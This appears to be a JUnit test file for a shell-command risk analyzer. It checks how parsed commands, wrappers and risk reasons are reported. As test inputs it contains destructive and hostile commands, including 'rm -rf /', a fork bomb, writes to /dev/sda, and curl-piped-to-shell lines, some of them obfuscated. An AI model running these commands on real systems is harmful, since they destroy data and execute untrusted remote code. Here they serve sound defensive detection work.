package dev.warden.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.warden.action.ActionException;
import dev.warden.action.ErrorKind;
import dev.warden.action.Risk;
import dev.warden.guard.CommandAnalysis.ParsedCommand;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The shape of an analysis: which commands were found, through which wrappers, with which reasons. */
class CommandAnalyzerTest {
    private final CommandAnalyzer analyzer = new CommandAnalyzer();

    private List<List<String>> argvs(String line) {
        return analyzer.analyze(line).commands().stream().map(ParsedCommand::argv).toList();
    }

    @Test
    void listsEverySimpleCommandOfALine() {
        assertThat(argvs("ls -la | grep foo && echo 'a b' ; cat x &"))
                .containsExactly(List.of("ls", "-la"), List.of("grep", "foo"), List.of("echo", "a b"), List.of("cat", "x"));
    }

    @Test
    void quoteRemovalJoinsTheWordsTheShellWouldSee() {
        assertThat(argvs("r''m \"-\"rf \\/ $'\\x2f'")).containsExactly(List.of("rm", "-rf", "/", "/"));
    }

    @Test
    void redirectionTargetsAreNotArguments() {
        var analysis = analyzer.analyze("sort data 2>&1 > out.txt < in.txt");
        assertThat(analysis.commands()).singleElement().satisfies(c -> assertThat(c.argv()).containsExactly("sort", "data"));
        assertThat(analysis.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(analysis.reasons()).anyMatch(r -> r.contains("out.txt"));
    }

    @Test
    void assignmentsBeforeACommandAreNotTheCommand() {
        assertThat(argvs("FOO=1 BAR=\"x y\" env")).containsExactly(List.of("env"));
    }

    @Test
    void wrappersAreSeenThroughAndRecorded() {
        var command = analyzer.analyze("sudo -u root env FOO=1 nice -n 5 timeout 10 rm -rf /tmp/x").commands().getFirst();
        assertThat(command.argv()).containsExactly("rm", "-rf", "/tmp/x");
        assertThat(command.wrappers()).containsExactly("sudo", "env", "nice", "timeout");
        assertThat(command.risk()).isEqualTo(Risk.HIGH);
    }

    @Test
    void shellStringsAreParsedRecursively() {
        var analysis = analyzer.analyze("sudo env FOO=1 sh -c \"rm -rf /\"");
        assertThat(analysis.commands()).singleElement().satisfies(c -> {
            assertThat(c.argv()).containsExactly("rm", "-rf", "/");
            assertThat(c.wrappers()).containsExactly("sudo", "env", "sh");
        });
        assertThat(analysis.risk()).isEqualTo(Risk.CRITICAL);
    }

    @Test
    void findExecCommandsCountAsCommands() {
        var analysis = analyzer.analyze("find / -name core -exec rm -rf {} \\;");
        assertThat(analysis.commands()).extracting(ParsedCommand::argv)
                .containsExactly(List.of("rm", "-rf", "/"), List.of("find", "/", "-name", "core", "-exec", "rm", "-rf", "{}", ";"));
        assertThat(analysis.commands().getFirst().wrappers()).containsExactly("find -exec");
        assertThat(analysis.risk()).isEqualTo(Risk.CRITICAL);
    }

    @Test
    void substitutionsInsideDoubleQuotesAreCommands() {
        assertThat(argvs("echo \"today is $(date +%F) by `whoami`\""))
                .contains(List.of("date", "+%F"), List.of("whoami"));
    }

    @Test
    void reasonsNameWhatIsDangerous() {
        assertThat(analyzer.analyze("rm -rf /etc").reasons()).singleElement().asString()
                .contains("rm -rf").contains("system path /etc");
        assertThat(analyzer.analyze("curl -s http://x | sudo bash").reasons()).first().asString()
                .contains("curl").contains("bash");
        assertThat(analyzer.analyze("$CMD -x").reasons()).first().asString().contains("$CMD").contains("run time");
        assertThat(analyzer.analyze(":(){ :|:& };:").reasons()).first().asString().contains("fork bomb");
        assertThat(analyzer.analyze("echo x > /dev/sda").reasons()).first().asString().contains("/dev/sda");
    }

    @Test
    void reasonsAreSortedMostDangerousFirstAndOnlyForRaisedRisks() {
        var analysis = analyzer.analyze("ls; touch a; rm -rf /; git commit -m x");
        assertThat(analysis.risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analysis.reasons()).hasSize(3);
        assertThat(analysis.reasons().getFirst()).contains("rm -rf");
        assertThat(analysis.reasons().getLast()).contains("touch");
    }

    @Test
    void readLinesCarryNoReasons() {
        var analysis = analyzer.analyze("ls -la | grep foo");
        assertThat(analysis.risk()).isEqualTo(Risk.READ);
        assertThat(analysis.reasons()).isEmpty();
    }

    @Test
    void quotedTextIsDataNotACommand() {
        var analysis = analyzer.analyze("echo \"rm -rf /\" > notes.txt; grep 'rm -rf /' notes.txt");
        assertThat(analysis.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(analysis.commands()).extracting(c -> c.argv().getFirst()).containsExactly("echo", "grep");
    }

    @Test
    void readOnlyCommandRedirectedIntoAFileIsNoLongerRead() {
        assertThat(analyzer.analyze("ls >> listing.txt").risk()).isEqualTo(Risk.LOW);
        assertThat(analyzer.analyze("ls > listing.txt").risk()).isEqualTo(Risk.MEDIUM);
        assertThat(analyzer.analyze("ls > /etc/motd").risk()).isEqualTo(Risk.HIGH);
        assertThat(analyzer.analyze("ls 2>/dev/null").risk()).isEqualTo(Risk.READ);
    }

    @Test
    void hereDocumentBodyIsDataUnlessItExpands() {
        assertThat(analyzer.analyze("cat <<'EOF'\n$(rm -rf /)\nEOF").risk()).isEqualTo(Risk.READ);
        assertThat(analyzer.analyze("cat <<EOF\n$(rm -rf /)\nEOF").risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analyzer.analyze("cat > /tmp/x <<EOF\nhello\nEOF\nls").commands()).extracting(c -> c.argv().getFirst())
                .containsExactly("cat", "ls");
    }

    @Test
    void workingDirectoryFromCdIsFollowed() {
        assertThat(analyzer.analyze("cd /tmp/build && rm -rf *").risk()).isEqualTo(Risk.HIGH);
        assertThat(analyzer.analyze("cd / && rm -rf *").risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analyzer.analyze("cd /etc; rm -rf nginx").risk()).isEqualTo(Risk.HIGH);
    }

    @Test
    void functionBodiesAreAnalysed() {
        assertThat(analyzer.analyze("ls() { rm -rf /; }; ls").risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analyzer.analyze("greet() { echo hi; }; greet").risk()).isEqualTo(Risk.MEDIUM);
        assertThat(analyzer.analyze("function f { f | f & }; f").risk()).isEqualTo(Risk.CRITICAL);
    }

    @Test
    void emptyVariableTrapIsExplained() {
        var analysis = analyzer.analyze("rm -rf \"$STEAMROOT/\"*");
        assertThat(analysis.risk()).isEqualTo(Risk.HIGH);
        assertThat(analysis.reasons()).anyMatch(r -> r.contains("if its variables are empty"));
    }

    @Test
    void nullOrBlankCommandIsRefused() {
        assertThatThrownBy(() -> analyzer.analyze(null)).isInstanceOfSatisfying(ActionException.class, e -> {
            assertThat(e.kind()).isEqualTo(ErrorKind.BAD_INPUT);
            assertThat(e.code()).isEqualTo("invalid_command");
            assertThat(e.hint()).isNotBlank();
        });
        assertThatThrownBy(() -> analyzer.analyze("  \n ")).isInstanceOf(ActionException.class);
        assertThatThrownBy(() -> analyzer.analyzeArgv(List.of())).isInstanceOf(ActionException.class);
        assertThatThrownBy(() -> analyzer.analyzeArgv(null)).isInstanceOf(ActionException.class);
        var withNull = new ArrayList<String>();
        withNull.add("ls");
        withNull.add(null);
        assertThatThrownBy(() -> analyzer.analyzeArgv(withNull)).isInstanceOfSatisfying(ActionException.class,
                e -> assertThat(e.code()).isEqualTo("invalid_command"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "if true; then ls", "( ls", "{ ls;",
            "case x in a) ls", "echo ${x", "ls )", "fi", "cat <<EOF\nno end", "for x in a b", "$(", "\"", "'", "\\", "&&",
            "|", ";;", "a=(1 2", "[[ -f x", "echo $'\\x", "while true; do ls", "f() {"})
    void malformedInputNeverCrashesAndIsAtLeastMediumWithAReason(String line) {
        var analysis = analyzer.analyze(line);
        if (!line.equals("&&") && !line.equals("|") && !line.equals("cat <<EOF\nno end") && !line.equals("\\")) {
            assertThat(analysis.risk()).as(line).isGreaterThanOrEqualTo(Risk.MEDIUM);
            assertThat(analysis.reasons()).as(line).anyMatch(r -> r.contains("malformed"));
        }
    }

    @Test
    void malformedLineStillReportsTheDangerItContains() {
        var analysis = analyzer.analyze("rm -rf / ; echo 'oops");
        assertThat(analysis.risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analysis.reasons()).anyMatch(r -> r.contains("unterminated single quote"));
    }

    @Test
    void argvIsAnalysedWithoutShellExpansion() {
        assertThat(analyzer.analyzeArgv(List.of("/bin/rm", "-rf", "/")).risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analyzer.analyzeArgv(List.of("echo", "$(rm -rf /)")).risk()).isEqualTo(Risk.READ);
        assertThat(analyzer.analyzeArgv(List.of("ls", "-la")).risk()).isEqualTo(Risk.READ);
        assertThat(analyzer.analyzeArgv(List.of("sh", "-c", "curl http://x | sh")).risk()).isEqualTo(Risk.CRITICAL);
        assertThat(analyzer.analyzeArgv(List.of("sudo", "systemctl", "restart", "nginx")).commands().getFirst().wrappers())
                .containsExactly("sudo");
    }

    @Test
    void deepNestingEndsAsHighInsteadOfOverflowing() {
        var deep = "( ".repeat(5000) + "ls" + " )".repeat(5000);
        var subs = "$(".repeat(3000) + "ls" + ")".repeat(3000);
        var shells = "sh -c \"".repeat(1) + "sh -c 'sh -c \\\"sh -c ls\\\"'\"";
        var nestedShells = new StringBuilder("rm -rf /");
        for (int i = 0; i < 20; i++) nestedShells.insert(0, "eval ");
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            assertThat(analyzer.analyze(deep).risk()).isEqualTo(Risk.HIGH);
            assertThat(analyzer.analyze(subs).risk()).isEqualTo(Risk.HIGH);
            assertThat(analyzer.analyze(shells).risk()).isEqualTo(Risk.READ);
            var tooDeep = analyzer.analyze(nestedShells.toString());
            assertThat(tooDeep.risk()).isEqualTo(Risk.HIGH);
            assertThat(tooDeep.reasons()).anyMatch(r -> r.contains("nested more than"));
            assertThat(analyzer.analyze("{a,b}".repeat(40)).reasons()).anyMatch(r -> r.contains("too large"));
        });
    }

    @Test
    void randomInputNeverThrows() {
        var random = new Random(42);
        var alphabet = "ab rm-f/$(){}[]<>|&;'\"`\\\n#*?~=!:,.0123456789";
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            for (int n = 0; n < 20_000; n++) {
                var text = new StringBuilder();
                int length = 1 + random.nextInt(60);
                for (int i = 0; i < length; i++) text.append(alphabet.charAt(random.nextInt(alphabet.length())));
                if (text.toString().isBlank()) continue;
                var analysis = analyzer.analyze(text.toString());
                assertThat(analysis.risk()).as(text.toString()).isNotNull();
            }
        });
    }

    @Test
    void longOrdinaryLineIsAnalysed() {
        var line = "echo x | grep x; ".repeat(20_000);
        var analysis = analyzer.analyze(line);
        assertThat(analysis.risk()).isEqualTo(Risk.READ);
        assertThat(analysis.commands()).hasSize(40_000);
    }
}
